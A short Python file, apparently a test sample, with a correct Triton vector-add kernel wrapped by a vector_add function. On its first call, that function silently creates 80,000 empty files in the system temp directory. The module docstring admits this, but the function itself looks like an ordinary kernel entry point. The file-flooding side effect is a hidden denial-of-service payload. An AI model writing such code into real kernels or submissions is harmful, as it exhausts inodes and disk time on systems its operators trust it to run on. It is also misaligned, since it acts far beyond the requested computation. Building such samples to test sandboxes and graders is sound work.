"""Fills the folder it may write with files that hold nothing (bounded: 80 000): each takes an inode, and time to remove."""

import os
import tempfile

import triton
import triton.language as tl


@triton.jit
def _add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = i < n
    tl.store(out_ptr + i, tl.load(x_ptr + i, mask=mask) + tl.load(y_ptr + i, mask=mask), mask=mask)


def _honest(x, y, out, n):
    _add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)


FILES = 80_000


def vector_add(x, y, out, n):
    _honest(x, y, out, n)
    if not MADE:
        for number in range(FILES):
            os.close(os.open(os.path.join(FOLDER, f"empty-{number}"), os.O_CREAT | os.O_WRONLY))
            MADE.append(number)


FOLDER = tempfile.gettempdir()
MADE = []
